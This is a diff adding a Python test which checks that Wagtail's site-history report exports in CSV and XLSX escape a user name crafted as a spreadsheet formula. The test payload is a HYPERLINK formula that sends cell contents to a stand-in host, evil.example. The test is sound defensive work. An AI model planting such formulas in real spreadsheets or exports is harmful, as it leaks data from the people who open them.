@@ -175,3 +175,32 @@ def test_gunicorn_does_not_name_itself_in_the_server_header():
     finally:
         server.terminate()
         server.wait(timeout=10)
+
+
+def test_wagtail_report_exports_neutralise_formula_injection(people, site):
+    """Wagtail's own reports (here the site history, where members' actions appear with their
+    names) export a member named like a formula as plain text, in CSV and XLSX."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+    from wagtail.log_actions import log
+    from wagtail.models import Page
+
+    evil = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
+    member = people.users["member_a"]
+    member.first_name, member.last_name = evil, ""
+    member.save()
+    log(instance=Page.objects.get(depth=2), action="wagtail.edit", user=member)
+    client = people.client("editor")
+
+    response = client.get("/admin/reports/site-history/?export=csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + evil in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+
+    response = client.get("/admin/reports/site-history/?export=xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    values = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
+    assert "'" + evil in values
